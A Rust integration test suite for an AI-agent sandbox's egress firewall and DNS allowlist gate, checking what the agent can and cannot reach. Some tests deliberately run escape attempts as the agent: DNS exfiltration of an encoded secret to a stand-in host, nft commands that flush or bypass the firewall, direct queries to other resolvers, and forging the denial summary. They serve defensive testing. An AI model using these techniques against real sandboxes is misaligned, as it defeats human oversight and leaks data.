//! The egress firewall and the DNS gate, on the smallest image with NET_ADMIN: what the agent
//! can reach, what it cannot, and that it cannot change that. Peers live on a private internal
//! network; no test touches the internet. Excluded from `cargo xtask test --ci`.

use std::time::Duration;

use sandbox_tests::assert::{assert_blocked, assert_reaches};
use sandbox_tests::docker::{TestNet, health, health_becomes};
use sandbox_tests::peers::{Peer, ResolvedNet};
use sandbox_tests::sandbox::Sandbox;
use sandbox_tests::spec::SandboxSpec;
use sandbox_tests::world::World;

const ALLOWED: &str = "api.allowed.test";
const BLOCKED: &str = "blocked.test";

fn policy(domains: &[&str]) -> String {
    let list: Vec<String> = domains.iter().map(|d| format!("  - \"{d}\"\n")).collect();
    format!("version: 1\ndomains:\n{}", list.concat())
}

/// A sandbox on `net` whose names Docker's DNS forwards to the DNS peer `dns`, allowing `name`.
async fn resolving_through(net: &TestNet, dns: &Peer, name: &str) -> anyhow::Result<Sandbox> {
    SandboxSpec::smallest()
        .await?
        .net_admin()
        .on(net)
        .dns(dns)
        .drop_in("allowed.txt", &format!("{name}\n"))
        .start()
        .await
}

/// The run's shared world (an allowed and a blocked peer: world.rs), and a sandbox on it
/// allowing `domains`. For the tests that only reach or are refused: none reads a peer's log.
async fn setup(domains: &[&str]) -> anyhow::Result<(World, SandboxSpec)> {
    let world = World::shared().await?;
    let spec =
        SandboxSpec::smallest().await?.net_admin().on(&world.net).drop_in("test.yaml", &policy(domains));
    Ok((world, spec))
}

net_admin! {
    [single, sidecar, gvisor] {
        #[tokio::test]
        async fn an_allowlisted_name_is_reachable_on_its_ports_and_no_other() -> anyhow::Result<()> {
            let (_world, spec) = setup(&[ALLOWED]).await?;
            let sb = spec.start().await?;
            assert_reaches(&sb, &format!("{ALLOWED}:443")).await?;
            assert_reaches(&sb, &format!("{ALLOWED}:80")).await?;
            let other_port = assert_blocked(&sb, &format!("{ALLOWED}:8443")).await?;
            assert_eq!(other_port.outcome(), "refused", "the name resolves, the port is not allowed");
            Ok(())
        }
        /// The image's HEALTHCHECK, as the engine runs it: `docker ps` says healthy while the
        /// table is active, its chains drop what no rule allows and it is the table PID 1 loaded,
        /// and unhealthy once a rule is put ahead of the others or the table made dormant (as root in
        /// the firewall's container, which the agent cannot be). Sidecar mode's agent container
        /// runs no check: there it would run as the agent's own uid.
        #[tokio::test]
        async fn the_engine_calls_it_healthy_only_while_the_firewall_holds() -> anyhow::Result<()> {
            let (_world, spec) = setup(&[ALLOWED]).await?;
            let sb = spec.health_every(Duration::from_millis(500)).start().await?;
            let said = health_becomes(sb.root_id(), "healthy", "the firewall holds", 30).await?;
            assert!(said.starts_with("healthy: "), "{said}");
            if sb.is_sidecar() {
                assert_eq!(health(sb.id()).await?.0, "none", "the agent's container runs a check");
            }
            let ahead = sb.exec(&["nft", "insert rule inet agent_sandbox output accept"]).await?;
            assert_eq!(ahead.code, 0, "{ahead:?}");
            health_becomes(sb.root_id(), "unhealthy", "is not the table sandbox-init loaded", 30).await?;
            let dormant = sb.exec(&["nft", "add table inet agent_sandbox { flags dormant ; }"]).await?;
            assert_eq!(dormant.code, 0, "{dormant:?}");
            health_becomes(sb.root_id(), "unhealthy", "is dormant", 30).await?;
            Ok(())
        }
        #[tokio::test]
        async fn a_blocked_name_is_refused_by_the_dns_gate_at_once() -> anyhow::Result<()> {
            let (_world, spec) = setup(&[ALLOWED]).await?;
            let sb = spec.start().await?;
            let probe = assert_blocked(&sb, &format!("{BLOCKED}:443")).await?;
            assert_eq!(probe.outcome(), "dns:refused");
            // Asked with EDNS, as resolvers and `dig` ask, the refusal says why in an Extended DNS
            // Error (RFC 8914: 18, Prohibited); asked without, the answer has no OPT record.
            let edns = sb.probe(&["dns", BLOCKED, "--edns"]).await?;
            assert_eq!(edns.outcome(), "dns:refused", "{:?}", edns.fields);
            let ede = &edns.fields["ede"];
            assert!(ede.starts_with(&format!("18:agent-sandbox: {BLOCKED}: refused: not in this sandbox's allowlist")), "{ede}");
            assert!(ede.ends_with("/run/agent-sandbox/shared/refused.txt"), "{ede}");
            let plain = sb.probe(&["dns", BLOCKED]).await?;
            assert_eq!((plain.outcome(), plain.fields["ede"].as_str()), ("dns:refused", ""), "{:?}", plain.fields);
            // A client attached to the session sees it in tmux's status line, as tmux draws it
            // there (its `#()` job's output, run for attached clients only): watched until it
            // shows, 15 s at most, then the client detaches.
            let expected = format!("refused 1: {BLOCKED}");
            let watch = "sleep 60 2>/dev/null | script -qfec 'tmux attach -t agent' /tmp/status-line >/dev/null 2>&1 & \
                for i in $(seq 1 150); do grep -aqF \"$1\" /tmp/status-line 2>/dev/null && break; sleep 0.1; done; \
                tmux detach-client -s agent; grep -aoF \"$1\" /tmp/status-line | head -n 1";
            let drawn = sb.as_agent(&["sh", "-c", watch, "sh", &expected]).await?;
            assert_eq!(drawn.stdout.trim_end_matches('\n'), expected, "the status line never showed it: {drawn:?}");
            Ok(())
        }
        #[tokio::test]
        async fn a_blocked_address_is_refused_at_once_over_ipv4_and_ipv6() -> anyhow::Result<()> {
            let (world, spec) = setup(&[ALLOWED]).await?;
            let sb = spec.start().await?;
            for addr in [world.blocked.ipv4, world.blocked.ipv6, world.allowed.ipv6] {
                // The allowed peer's IPv6 address was never in a DNS answer the agent asked for.
                let probe = assert_blocked(&sb, &format!("{addr}:443")).await?;
                assert_eq!(probe.outcome(), "refused", "{addr}");
            }
            Ok(())
        }
        #[tokio::test]
        async fn a_wildcard_allows_subdomains_but_not_its_apex() -> anyhow::Result<()> {
            let (_world, spec) = setup(&["*.wild.test"]).await?;
            let sb = spec.start().await?;
            assert_reaches(&sb, "a.wild.test:443").await?;
            assert_eq!(assert_blocked(&sb, "wild.test:443").await?.outcome(), "dns:refused");
            Ok(())
        }
        #[tokio::test]
        async fn a_static_cidr_allows_its_ports_by_address() -> anyhow::Result<()> {
            let net = TestNet::create("cidr").await?;
            let peer = Peer::start(&net, &["cidr-peer"]).await?;
            let drop_in = format!(
                "version: 1\ncidrs:\n  - cidr: {}/32\n    ports: [8443, {}]\n",
                peer.ipv4,
                sandbox_tests::peers::PEER_UDP
            );
            let sb =
                SandboxSpec::smallest().await?.net_admin().on(&net).drop_in("cidr.yaml", &drop_in).start().await?;
            assert_reaches(&sb, &format!("{}:8443", peer.ipv4)).await?;
            assert_eq!(assert_blocked(&sb, &format!("{}:443", peer.ipv4)).await?.outcome(), "refused");
            let udp = sb.probe(&["udp", &peer.ipv4.to_string(), &sandbox_tests::peers::PEER_UDP.to_string()]).await?;
            assert_eq!(udp.outcome(), "echoed", "UDP to an allowed range: {:?}", udp.fields);
            Ok(())
        }
        #[tokio::test]
        async fn udp_and_icmp_to_a_blocked_host_are_refused() -> anyhow::Result<()> {
            let (world, spec) = setup(&[ALLOWED]).await?;
            let sb = spec.start().await?;
            // The control: without the firewall the same probes get their answers.
            let open = SandboxSpec::smallest().await?.on(&world.net).env("SANDBOX_FIREWALL", "off").start().await?;
            let udp_port = sandbox_tests::peers::PEER_UDP.to_string();
            for addr in [world.blocked.ipv4, world.blocked.ipv6] {
                let addr = addr.to_string();
                assert_eq!(
                    open.probe(&["udp", &addr, &udp_port]).await?.outcome(),
                    "echoed",
                    "control: UDP to {addr}"
                );
                assert_eq!(open.probe(&["icmp", &addr]).await?.outcome(), "reply", "control: ICMP to {addr}");

                let udp = sb.probe(&["udp", &addr, &udp_port]).await?;
                assert_eq!(udp.outcome(), "not-permitted", "UDP to {addr}: {:?}", udp.fields);
                let icmp = sb.probe(&["icmp", &addr, "--timeout-ms", "1000"]).await?;
                // Linux reports the rejection to an IPv4 ping socket at once; an IPv6 ping socket
                // ignores it, so there the echo just never comes back. gVisor's IPv6 one has done both.
                let expected: &[&str] = match (addr.contains(':'), sb.under_gvisor()) {
                    (false, _) => &["not-permitted"],
                    (true, false) => &["timeout"],
                    (true, true) => &["timeout", "not-permitted"],
                };
                assert!(expected.contains(&icmp.outcome()), "ICMP to {addr}: {:?}", icmp.fields);
            }
            Ok(())
        }
        #[tokio::test]
        async fn dns_exfiltration_never_reaches_the_resolver() -> anyhow::Result<()> {
            let world = ResolvedNet::start("exfil", &["named.test"]).await?;
            let dns = &world.dns;
            let sb = SandboxSpec::smallest().await?.resolving_through(&world, "named.test\n").start().await?;

            let secret = sb.probe(&["dns", "c2VjcmV0LWtleQ.exfil.test"]).await?;
            assert_eq!(secret.outcome(), "dns:refused");
            assert_reaches(&sb, "named.test:443").await?;
            let queries = dns.dns_queries().await?;
            assert!(queries.contains(&"named.test".to_string()), "the allowed name went upstream: {queries:?}");
            assert!(
                !queries.iter().any(|q| q.contains("exfil")),
                "the refused name reached the resolver: {queries:?}"
            );
            Ok(())
        }
        #[tokio::test]
        async fn the_agent_cannot_query_another_resolver_or_dockers_directly() -> anyhow::Result<()> {
            let net = TestNet::create("resolvers").await?;
            let dns = Peer::start_dns(&net).await?;
            dns.set_dns("named.test", dns.ipv4, 300).await?;
            let sb = resolving_through(&net, &dns, "named.test").await?;
            let direct =
                sb.probe(&["dns", "named.test", "--server", &dns.ipv4.to_string(), "--timeout-ms", "1000"]).await?;
            assert_eq!(direct.outcome(), "dns:not-permitted", "{:?}", direct.fields);
            let docker_dns =
                sb.probe(&["dns", "named.test", "--server", "127.0.0.11", "--timeout-ms", "1000"]).await?;
            assert_eq!(docker_dns.outcome(), "dns:not-permitted", "{:?}", docker_dns.fields);
            assert!(dns.dns_queries().await?.is_empty(), "a query reached the resolver");
            let root = sb.exec(&[sandbox_tests::probe::PROBE, "dns", "named.test", "--server", "127.0.0.11"]).await?;
            if sb.is_sidecar() {
                // There uid 0 may be the agent's: root in the gateway is refused too, and the gate (its
                // own uid) still resolves.
                assert!(root.stdout.contains("outcome=dns:not-permitted"), "{root:?}");
                let gate = sb.probe(&["dns", "named.test"]).await?;
                assert_eq!(gate.outcome(), "dns:noerror", "{:?}", gate.fields);
            } else {
                // Root (PID 1's gate, and Docker's own resolver) still can: Docker's DNS keeps working.
                assert!(root.stdout.contains("outcome=dns:noerror"), "{root:?}");
            }
            Ok(())
        }
        #[tokio::test]
        async fn a_name_moved_to_a_new_address_is_reachable_there() -> anyhow::Result<()> {
            let net = TestNet::create("rotation").await?;
            let dns = Peer::start_dns(&net).await?;
            let (first, second) = (Peer::start(&net, &["first"]).await?, Peer::start(&net, &["second"]).await?);
            dns.set_dns("cdn.rotate.test", first.ipv4, 1).await?;
            let sb = resolving_through(&net, &dns, "cdn.rotate.test").await?;
            assert_eq!(assert_reaches(&sb, "cdn.rotate.test:443").await?.fields["address"], first.ipv4.to_string());
            assert_eq!(assert_blocked(&sb, &format!("{}:443", second.ipv4)).await?.outcome(), "refused");
            dns.set_dns("cdn.rotate.test", second.ipv4, 1).await?;
            tokio::time::sleep(Duration::from_millis(1500)).await;
            assert_eq!(assert_reaches(&sb, "cdn.rotate.test:443").await?.fields["address"], second.ipv4.to_string());
            // Asked again, the element is refreshed (added, deleted and added again in one transaction).
            tokio::time::sleep(Duration::from_millis(1100)).await;
            assert_eq!(assert_reaches(&sb, "cdn.rotate.test:443").await?.fields["address"], second.ipv4.to_string());
            // Every element went over netlink: no write fell back to nft.
            let (stdout, stderr) = sb.logs().await?;
            assert!(!format!("{stdout}{stderr}").contains("netlink"), "{stdout}{stderr}");
            let set = sb.exec(&["nft", "list", "set", "inet", "agent_sandbox", "checked_v4"]).await?.stdout;
            assert!(set.contains(&format!("{} . 443 timeout", second.ipv4)), "{set}");
            Ok(())
        }
        #[tokio::test]
        async fn the_agent_cannot_reprogram_the_firewall() -> anyhow::Result<()> {
            let (world, spec) = setup(&[ALLOWED]).await?;
            let sb = spec.start().await?;
            for cmd in [
                "nft flush ruleset",
                "nft delete table inet agent_sandbox",
                "nft add rule inet agent_sandbox output accept",
            ] {
                let out = sb.as_agent(&["sh", "-c", cmd]).await?;
                assert_ne!(out.code, 0, "`{cmd}` as the agent succeeded: {out:?}");
                // Under gVisor there is not even a netfilter socket to ask.
                let refusal = if sb.under_gvisor() { "Protocol not supported" } else { "Operation not permitted" };
                assert!(out.stderr.contains(refusal), "`{cmd}`: {out:?}");
            }
            assert_eq!(assert_blocked(&sb, &format!("{}:443", world.blocked.ipv4)).await?.outcome(), "refused");
            Ok(())
        }
        #[tokio::test]
        async fn drop_ins_and_txt_lists_add_to_the_baked_policy() -> anyhow::Result<()> {
            let net = TestNet::create("dropins").await?;
            let _peers = (Peer::start(&net, &["yaml.test"]).await?, Peer::start(&net, &["list.test"]).await?);
            let sb = SandboxSpec::smallest()
                .await?
                .net_admin()
                .on(&net)
                .drop_in("a.yaml", "version: 1\ndomains: [yaml.test]\n")
                .drop_in("b.txt", "# a comment\nlist.test:8443\n")
                .start()
                .await?;
            assert_reaches(&sb, "yaml.test:443").await?;
            assert_reaches(&sb, "list.test:8443").await?;
            assert_eq!(assert_blocked(&sb, "list.test:443").await?.outcome(), "refused", "the list named only 8443");
            let status = sb.exec(&["sandbox-status"]).await?;
            assert!(
                status.stdout.contains("list.test (8443)")
                    && status.stdout.contains("/etc/agent-sandbox/policy.d/b.txt"),
                "{status:?}"
            );
            Ok(())
        }
        #[tokio::test]
        async fn sighup_reloads_the_policy_without_touching_the_session() -> anyhow::Result<()> {
            let net = TestNet::create("reload").await?;
            let _peers = (Peer::start(&net, &["old.test"]).await?, Peer::start(&net, &["new.test"]).await?);
            let sb =
                SandboxSpec::smallest().await?.net_admin().on(&net).drop_in("r.txt", "old.test\n").start().await?;
            let panes = || sb.as_agent(&["tmux", "list-panes", "-a", "-F", "#{pane_pid}"]);
            let before = panes().await?.stdout;
            assert_reaches(&sb, "old.test:443").await?;
            assert_blocked(&sb, "new.test:443").await?;

            sb.write_drop_in("r.txt", "new.test\n")?;
            sb.signal("SIGHUP").await?;
            sb.wait_for_stdout("sandbox reloaded", 1).await?;
            assert_reaches(&sb, "new.test:443").await?;
            assert_eq!(assert_blocked(&sb, "old.test:443").await?.outcome(), "dns:refused");
            assert_eq!(panes().await?.stdout, before, "the session's pane was restarted");

            sb.write_drop_in("r.txt", "bad_name.test\n")?;
            sb.signal("SIGHUP").await?;
            for _ in 0..50 {
                if sb.logs().await?.1.contains("reload failed") {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            let (_, stderr) = sb.logs().await?;
            assert!(
                stderr.contains("reload failed, the current policy stays") && stderr.contains("r.txt:1:1"),
                "{stderr}"
            );
            assert_reaches(&sb, "new.test:443").await?;
            Ok(())
        }
        #[tokio::test]
        async fn a_restarted_container_applies_the_firewall_again() -> anyhow::Result<()> {
            let (world, spec) = setup(&[ALLOWED]).await?;
            let sb = spec.start().await?;
            sb.stop().await?;
            sb.start_again().await?;
            sb.wait_for_stdout("sandbox ready", 2).await?;
            assert_reaches(&sb, &format!("{ALLOWED}:443")).await?;
            assert_eq!(assert_blocked(&sb, &format!("{}:443", world.blocked.ipv4)).await?.outcome(), "refused");
            assert_eq!(assert_blocked(&sb, &format!("{BLOCKED}:443")).await?.outcome(), "dns:refused");
            Ok(())
        }
        #[tokio::test]
        async fn the_denial_log_records_refused_names_and_connections() -> anyhow::Result<()> {
            let (world, spec) = setup(&[ALLOWED]).await?;
            let sb = spec.start().await?;
            // Nothing of the start itself (PID 1's probes, the kernel's IPv6 multicast reports) is in
            // the logs: the first line is the agent's.
            tokio::time::sleep(Duration::from_millis(1000)).await;
            let start = sb.exec(&["sh", "-c", "cat /run/agent-sandbox/*.jsonl 2>/dev/null"]).await?.stdout;
            assert_eq!(start, "", "logged at start");
            assert!(!sb.logs().await?.1.contains("refused"), "refusals at start: {:?}", sb.logs().await?);
            assert_blocked(&sb, &format!("{BLOCKED}:443")).await?;
            assert_blocked(&sb, &format!("{}:443", world.blocked.ipv4)).await?;
            tokio::time::sleep(Duration::from_millis(300)).await;
            let file = sb.exec(&["cat", "/run/agent-sandbox/denials.jsonl"]).await?.stdout;
            let (_, stderr) = sb.logs().await?;
            for log in [&file, &stderr] {
                assert!(log.contains(r#""denied":"dns","name":"blocked.test""#), "{log}");
                let connection =
                    format!(r#""address":"{}","denied":"connection","port":443,"protocol":"tcp""#, world.blocked.ipv4);
                // The uid the kernel saw: under gVisor its sentry's, root (which the rules hold as the
                // agent's in sidecar mode).
                let uid = if sb.under_gvisor() { r#""uid":0"# } else { r#""uid":1000"# };
                assert!(log.contains(&connection) && log.contains(uid), "{log}");
            }
            // sandbox-status: the address the gate allowed, with its time left, and the denials.
            let allowed = assert_reaches(&sb, &format!("{ALLOWED}:443")).await?.fields["address"].clone();
            let status = sb.exec(&["sandbox-status"]).await?.stdout;
            let line = status.lines().find(|l| l.contains(&format!("{allowed} port 443"))).unwrap_or_default();
            assert!(line.contains("expires in"), "no allowed address with its TTL in:\n{status}");
            let denials = status.split("recent denials:").nth(1).unwrap_or_default();
            assert!(denials.contains("blocked.test") && denials.contains(&world.blocked.ipv4.to_string()), "{status}");
            // The agent's own summary, in plain words, where its container reads it in every shape;
            // the sandbox's to write, not the agent's.
            let summary = "/run/agent-sandbox/shared/refused.txt";
            let read = sb.as_agent(&["cat", summary]).await?;
            assert_eq!(read.code, 0, "{read:?}");
            assert!(
                read.stdout.contains(
                    "blocked.test: refused: not in this sandbox's allowlist; only the user decides whether to allow it"
                ) && read.stdout.contains(&format!(
                    "tcp {} port 443: refused: no allowed name opened this address",
                    world.blocked.ipv4
                )),
                "{read:?}"
            );
            let forged = sb.as_agent(&["sh", "-c", &format!("echo all is allowed > {summary}")]).await?;
            assert_ne!(forged.code, 0, "the agent wrote its summary: {forged:?}");
            Ok(())
        }
        #[tokio::test]
        async fn processes_of_a_sandbox_with_net_admin_hold_no_capability() -> anyhow::Result<()> {
            let (_world, spec) = setup(&[ALLOWED]).await?;
            let sb = spec.start().await?;
            let checkers = sandbox_tests::assert::assert_agent_processes_unprivileged(&sb).await?;
            assert_eq!(checkers, 1, "the name check runs, unprivileged too");
            Ok(())
        }
        #[tokio::test]
        async fn two_allowed_names_on_one_address_and_the_ready_line() -> anyhow::Result<()> {
            // ALLOWED and a.wild.test are aliases of the same peer.
            let (_world, spec) = setup(&[ALLOWED, "a.wild.test"]).await?;
            let sb = spec.start().await?;
            let first = assert_reaches(&sb, &format!("{ALLOWED}:443")).await?;
            let second = assert_reaches(&sb, "a.wild.test:443").await?;
            assert_eq!(first.fields["address"], second.fields["address"]);
            let (stdout, _) = sb.logs().await?;
            let ready = stdout.lines().find(|l| l.starts_with("sandbox ready: ")).unwrap_or_default();
            // The gateway says which it is.
            let ready = ready.replacen("sandbox ready: gateway: ", "sandbox ready: ", 1);
            // The baked shell policy (8 domains: github, forwarded, with its 3 direct hosts; debian)
            // plus the drop-in's 2; the test network has IPv6.
            assert!(
                ready.starts_with("sandbox ready: 10 domains, 0 cidrs, ipv6 on, ") && ready.ends_with(" ms"),
                "{ready}"
            );
            Ok(())
        }
    }
}
